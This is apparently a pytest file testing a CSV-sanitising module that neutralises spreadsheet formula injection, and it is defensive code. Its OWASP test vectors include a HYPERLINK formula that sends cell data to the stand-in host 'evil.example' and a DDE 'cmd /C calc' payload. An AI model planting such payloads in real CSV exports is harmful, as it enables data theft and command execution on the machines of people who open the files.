"""CSV cells a spreadsheet would run as formulas are written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from clustergrowth import csvsafe

OWASP = [
    ("=1+2", "'=1+2"),
    ('=HYPERLINK("http://evil.example/?d="&A1,"Cork")', '\'=HYPERLINK("http://evil.example/?d="&A1,"Cork")'),
    ("+1+2", "'+1+2"),
    ("-1+2", "'-1+2"),
    ("-2", "'-2"),  # a string: what it means is not the platform's to guess
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
]
HARMLESS = ["Cork", "", "a=1", "1-2", " =1+2", "'=1+2", "\n=1", "IE05", "C28"]


@pytest.mark.parametrize(("value", "written"), OWASP)
def test_formula_starts_get_a_quote(value: str, written: str) -> None:
    assert csvsafe.cell(value) == written


@pytest.mark.parametrize("value", HARMLESS)
def test_other_strings_are_left_alone(value: str) -> None:
    assert csvsafe.cell(value) == value


@pytest.mark.parametrize("value", [-1, -0.5, 0, 3, 2.25, -1e-9, None, True])
def test_numbers_stay_numbers(value: object) -> None:
    assert csvsafe.cell(value) is value


def test_the_writer_neutralises_every_cell_and_reads_back() -> None:
    out = io.StringIO()
    w = csvsafe.writer(out, lineterminator="\r\n")
    w.writerow(["council", "gap"])
    w.writerows([["=1+2", -0.5], ["@x,y", -3], ["Cork", 1.25]])
    assert out.getvalue() == "council,gap\r\n'=1+2,-0.5\r\n\"'@x,y\",-3\r\nCork,1.25\r\n"
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["council", "gap"],
        ["'=1+2", "-0.5"],
        ["'@x,y", "-3"],
        ["Cork", "1.25"],
    ]


def test_every_csv_the_platform_writes_goes_through_csvsafe() -> None:
    root = Path(__file__).resolve().parents[2]
    direct = [
        str(path.relative_to(root))
        for package in ("clustergrowth", "services", "gateway")
        for path in (root / package).rglob("*.py")
        if path.name != "csvsafe.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert direct == [], "write CSV with clustergrowth.csvsafe.writer"
